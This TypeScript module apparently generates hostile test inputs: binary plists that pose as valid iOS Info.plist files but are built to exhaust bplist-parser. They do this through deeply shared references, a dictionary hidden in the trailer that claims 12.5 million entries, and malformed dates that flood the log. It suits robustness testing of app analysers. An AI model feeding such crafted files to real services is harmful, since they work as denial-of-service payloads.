/**
 * Binary property lists (bplist00) for the hostile builds: shared objects a
 * naive reader decodes again at every reference, collections that lie
 * about their counts, dates of a wrong size.
 */
import { HOSTILE_APP_ID } from './app.js'

// Binary property lists (bplist00)

/**
 * A binary plist built object by object: each method adds an object and
 * returns its index, which other objects refer to. References are written at
 * the width `build` is given, so collections keep their indexes until then.
 */
class BinaryPlistWriter {
  private readonly objects: ({ raw: Buffer } | { kind: 0xa | 0xd; refs: number[] })[] = []

  /** An ASCII string (marker 0x5). */
  ascii(text: string): number {
    return this.raw(Buffer.concat([lengthHeader(0x5, text.length), Buffer.from(text, 'latin1')]))
  }

  /** Bytes taken as one whole object, as they are. */
  raw(bytes: Buffer): number {
    this.objects.push({ raw: bytes })
    return this.objects.length - 1
  }

  array(refs: number[]): number {
    this.objects.push({ kind: 0xa, refs })
    return this.objects.length - 1
  }

  /** A dictionary of `[key, value]` references. */
  dict(entries: [number, number][]): number {
    this.objects.push({ kind: 0xd, refs: [...entries.map(e => e[0]), ...entries.map(e => e[1])] })
    return this.objects.length - 1
  }

  /** A dictionary of string keys, each key object written here. */
  namedDict(entries: [string, number][]): number {
    return this.dict(entries.map(([key, value]) => [this.ascii(key), value]))
  }

  /**
   * The file. `refSize` is the width of a reference. `inTrailer`, of at most
   * six bytes, is an object placed in the trailer's six unused bytes (which
   * readers ignore) and numbered after all the others: whatever a reader reads
   * after it as references is the trailer itself, then the end of the file.
   */
  build(top: number, refSize = 1, inTrailer?: Buffer): { data: Buffer; trailerIndex: number } {
    const header = Buffer.from('bplist00', 'latin1')
    const bodies = this.objects.map(o =>
      'raw' in o
        ? o.raw
        : Buffer.concat([
            lengthHeader(o.kind, o.kind === 0xd ? o.refs.length / 2 : o.refs.length),
            uintBE(o.refs, refSize)
          ])
    )
    const offsets: number[] = []
    let at = header.length
    for (const body of bodies) {
      offsets.push(at)
      at += body.length
    }
    const table = at
    const trailerIndex = offsets.length
    const count = offsets.length + (inTrailer ? 1 : 0)
    const offsetSize = 2
    const tableBytes = count * offsetSize
    if (inTrailer && inTrailer.length > 6) throw new Error('the trailer has six unused bytes')
    if (inTrailer) offsets.push(table + tableBytes) // the trailer's first byte
    if (table + tableBytes > 0xffff)
      throw new Error('offsets of two bytes cannot reach past 64 KiB')

    const trailer = Buffer.alloc(32)
    inTrailer?.copy(trailer, 0)
    trailer[6] = offsetSize
    trailer[7] = refSize
    trailer.writeBigUInt64BE(BigInt(count), 8)
    trailer.writeBigUInt64BE(BigInt(top), 16)
    trailer.writeBigUInt64BE(BigInt(table), 24)
    return {
      data: Buffer.concat([header, ...bodies, uintBE(offsets, offsetSize), trailer]),
      trailerIndex
    }
  }
}

/** A collection's or string's marker with its count: in the low four bits, or 0xF and an integer object after. */
function lengthHeader(kind: number, count: number): Buffer {
  if (count < 15) return Buffer.from([(kind << 4) | count])
  if (count <= 0xff) return Buffer.from([(kind << 4) | 0xf, 0x10, count])
  if (count <= 0xffff) return Buffer.from([(kind << 4) | 0xf, 0x11, count >> 8, count & 0xff])
  const header = Buffer.from([(kind << 4) | 0xf, 0x12, 0, 0, 0, 0])
  header.writeUInt32BE(count, 2)
  return header
}

/** Unsigned big-endian integers of `width` bytes each. */
function uintBE(values: number[], width: number): Buffer {
  const bytes = Buffer.alloc(values.length * width)
  values.forEach((value, i) => bytes.writeUIntBE(value, i * width, width))
  return bytes
}

/** The keys of a valid Info.plist, for the binary plists that are otherwise a real app. */
function appEntries(plist: BinaryPlistWriter): [string, number][] {
  return [
    ['CFBundleIdentifier', plist.ascii(HOSTILE_APP_ID)],
    ['CFBundleShortVersionString', plist.ascii('6.6.6')],
    ['CFBundleVersion', plist.ascii('666')],
    ['MinimumOSVersion', plist.ascii('15.0')]
  ]
}

/** `levels` arrays, each of `width` references to the one below; the lowest refers `width` times to `leaf`. Returns the top one. */
function sharedArrays(
  plist: BinaryPlistWriter,
  leaf: number,
  levels: number,
  width: number
): number {
  let below = leaf
  for (let level = 0; level < levels; level++) below = plist.array(Array(width).fill(below))
  return below
}

/** How many entries the innermost dictionary of `sharedDictionaryPlist` claims. */
const CLAIMED_ENTRIES = 12_500_000

/**
 * Four levels of dictionaries, each of 15 entries whose values are all one
 * shared dictionary of the level below (keys: one shared "k"); the innermost
 * claims 12,500,000 entries and holds none. bplist-parser lets a dictionary
 * claim up to 100,000,000 bytes of references: 12,500,000 × 2 × 4 is exactly
 * that, so references are 4 bytes wide. References it reads past the end of
 * the file are 0, so object 0 is the harmless key string: each visit of the
 * innermost decodes it 25,000,000 times, and there are 15^4 visits.
 *
 * The innermost sits in the trailer's unused bytes, so that what follows it
 * is the trailer: read as 4-byte references, it names only object 0 or
 * objects that do not exist (no reference back to a dictionary, no cycle,
 * which would end the parse at once in a stack overflow).
 */
export function sharedDictionaryPlist(levels = 4, width = 15): Buffer {
  const plist = new BinaryPlistWriter()
  const key = plist.ascii('k') // object 0: what every reference past the file's end names
  const innermost = Buffer.from([0xdf, 0x12, 0, 0, 0, 0])
  innermost.writeUInt32BE(CLAIMED_ENTRIES, 2)
  // The innermost's index is the number of objects before it; it is numbered last.
  const innermostIndex = 1 + levels
  let below = innermostIndex
  for (let level = 0; level < levels; level++) {
    below = plist.dict(Array.from({ length: width }, (): [number, number] => [key, below]))
  }
  const { data, trailerIndex } = plist.build(below, 4, innermost)
  if (trailerIndex !== innermostIndex) throw new Error('the innermost dictionary is misnumbered')
  return data
}

/**
 * A valid Info.plist whose key "Shared" holds six levels of arrays of 15
 * references to one shared array, the lowest of 15 references to one
 * 300-character string: 15^6 = 11,390,625 string copies when each reference
 * is decoded anew.
 */
export function sharedArraysPlist(levels = 6, width = 15): Buffer {
  const plist = new BinaryPlistWriter()
  const leaf = plist.ascii('x'.repeat(300))
  const shared = sharedArrays(plist, leaf, levels, width)
  const root = plist.namedDict([...appEntries(plist), ['Shared', shared]])
  return plist.build(root).data
}

/**
 * A valid Info.plist whose key "Dates" holds five levels of arrays of 15
 * references to one shared array, the lowest of 15 references to one date
 * whose marker is 0x31 where a date's is 0x33 (eight bytes follow, as a
 * date's do). bplist-parser prints "Unknown date type" for each decode:
 * 15^5 = 759,375 lines.
 */
export function oddDatesPlist(levels = 5, width = 15): Buffer {
  const plist = new BinaryPlistWriter()
  const date = plist.raw(Buffer.from([0x31, 0x41, 0xc0, 0, 0, 0, 0, 0, 0])) // 2001 + 2^29 s
  const shared = sharedArrays(plist, date, levels, width)
  const root = plist.namedDict([...appEntries(plist), ['Dates', shared]])
  return plist.build(root).data
}

// ---------------------------------------------------------------------------
// Android binary XML (ResourceTypes.h)
